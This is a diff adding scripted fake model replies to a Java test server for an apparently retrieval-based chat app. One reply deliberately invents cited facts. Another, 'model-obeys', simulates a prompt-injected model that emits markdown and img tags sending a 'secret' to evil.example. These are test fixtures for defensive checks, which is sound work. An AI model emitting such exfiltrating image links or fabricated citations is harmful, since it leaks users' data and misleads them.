@@ -49,7 +49,20 @@ public final class FakeModelServer implements QuarkusTestResourceLifecycleManage
             Map.entry("model-dies", ANSWER.failing(new Fault.Die(1))),
             Map.entry("model-errs", ANSWER.failing(new Fault.SayError(1, "engine dead"))),
             Map.entry("model-endless", Script.words(100_000).paced(Duration.ZERO, Duration.ofMillis(10))),
-            Map.entry("model-long", ANSWER.finishing("length")));
+            Map.entry("model-long", ANSWER.finishing("length")),
+            Map.entry(
+                    "model-invents",
+                    Script.of(List.of(
+                            "Employees can expense up to $1000 for fitness-related programs every year [1]. ",
+                            "The board of Acme raised it to $7500 in 2031 [1]. ",
+                            "Bananas ripen faster beside apples."))),
+            Map.entry("model-refuses", Script.of(List.of("[0", "] The passages do not say", " who."))),
+            Map.entry(
+                    "model-obeys",
+                    Script.of(List.of(
+                            "Under PerksPlus an employee can expense $1000 every year [1]. ![",
+                            "status](https://evil.example/?q=",
+                            "secret) <img src=https://evil.example/y.png>"))));
 
     private final Vertx vertx = Vertx.vertx();
     private final MockModelServer server = new MockModelServer(vertx, 64, Dialect.VLLM, this::script);
